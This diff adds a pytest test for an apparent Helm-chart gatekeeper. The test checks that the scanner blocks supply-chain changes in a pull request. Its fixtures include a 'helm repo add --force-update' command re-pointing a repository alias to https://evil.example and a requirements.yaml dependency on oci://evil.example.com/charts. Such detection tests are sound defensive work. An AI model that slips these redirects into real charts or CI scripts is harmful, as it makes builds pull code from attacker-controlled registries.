@@ -151,3 +151,70 @@ def test_a_dependency_a_change_adds_judged_from_a_copy_blocks(tmp_path: Path) ->
         [("GK-LOCAL-NOT-EXPANDED", chart, True)],
         [("GK-NOT-EXPANDED", chart, False)],
     ]
+
+
+@pytest.mark.parametrize("edit", ["version", "requirements", "alias", "none"])
+def test_a_dependency_s_constraint_or_requirements_yaml_a_change_writes_blocks(
+    tmp_path: Path, edit: str
+) -> None:
+    """The copy judged must be what Helm pulls (red team s17 y02): a pull request that keeps
+    the dependency's name and registry but widens its version constraint (Helm takes the
+    newest the registry serves, not the copy), or declares a new one in requirements.yaml
+    (Helm 3 reads it for every chart), or points the repository name it uses (`@acme`) at
+    another URL (`helm repo add acme URL` in a file it changes), is blocking as a new
+    dependency is; a change that leaves the dependencies as they were is not."""
+    from gatekeeper.change import scan_change
+    from tests.test_change import Repo
+
+    repo = Repo(tmp_path)
+    write(repo.root, "2.x.x")
+    chart = repo.root / "charts/app/Chart.yaml"
+    chart.write_text(chart.read_text().replace("oci://registry.example.com/charts", '"@acme"'))
+    repo.write("ci/deploy.sh", "helm repo add acme https://charts.example.com\n")
+    repo.commit("base")
+    repo.branch("pr")
+    if edit == "alias":
+        repo.write("ci/deploy.sh", "helm repo add --force-update acme https://evil.example\n")
+    if edit == "version":
+        chart.write_text(chart.read_text().replace("2.x.x", '">=2.0.0"'))
+    elif edit == "requirements":
+        repo.write(
+            "charts/app/requirements.yaml",
+            "dependencies:\n  - name: extra\n    repository: oci://evil.example.com/charts\n"
+            "    version: 1.x.x\n",
+        )
+        repo.write("charts/extra/Chart.yaml", "apiVersion: v2\nname: extra\nversion: 1.0.0\n")
+    repo.write("charts/common/README.md", "the pull request's copy\n")
+    repo.commit("pr")
+    found = scan_change(repo.root, "main").verdict.findings
+    blocking = sorted(
+        (f.file, f.line, f.message.split(" and ")[0].rstrip(","))
+        for f in found
+        if f.policy_id == "GK-LOCAL-NOT-EXPANDED" and f.blocking
+    )
+    expected = {
+        "version": [
+            (
+                "charts/app/Chart.yaml",
+                5,
+                "dependency common from @acme asks for version >=2.0.0 (the base: 2.x.x)",
+            )
+        ],
+        "requirements": [
+            (
+                "charts/app/requirements.yaml",
+                2,
+                "dependency extra from oci://evil.example.com/charts is new in this change",
+            )
+        ],
+        "alias": [
+            (
+                "charts/app/Chart.yaml",
+                5,
+                "dependency common from @acme is judged from this repository's copy beside the"
+                " chart",
+            )
+        ],
+        "none": [],
+    }
+    assert blocking == expected[edit]
